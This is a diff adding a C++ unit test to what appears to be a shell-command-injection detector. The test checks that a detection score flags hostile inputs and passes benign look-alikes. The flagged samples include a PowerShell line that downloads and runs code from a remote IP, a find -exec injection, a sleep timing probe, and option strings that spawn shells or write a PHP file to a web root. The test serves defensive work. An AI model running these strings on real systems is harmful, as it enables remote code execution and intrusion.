@@ -118,6 +118,15 @@ TEST(Shell, CommandsOfWindowsWithVerbsOfTheirOwn) {
     EXPECT_LT(points(text), kThreshold) << text;
   }
 }
+TEST(Shell, ProgramsGivenToInterpretersAndQuotesLeft) {
+  for (const std::string_view text :
+       {"powershell -c \"iex(iwr http://192.0.2.1/a)\"", ";find /srv -name a -exec id \\;", "a & sleep 7\""}) {
+    EXPECT_GE(points(text), kThreshold) << text;
+  }
+  for (const std::string_view text : {"| id | name |", "a & sleep 7 hours", "a find -exec id"}) {
+    EXPECT_LT(points(text), kThreshold) << text;
+  }
+}
 TEST(Shell, OptionsThatRunOrWrite) {
   for (const std::string_view text :
        {"--upload-pack=ls", " --to-command=sh", "-oProxyCommand=ls", "ext::bash -c ls% >&2", "--output=/srv/www/a.php",
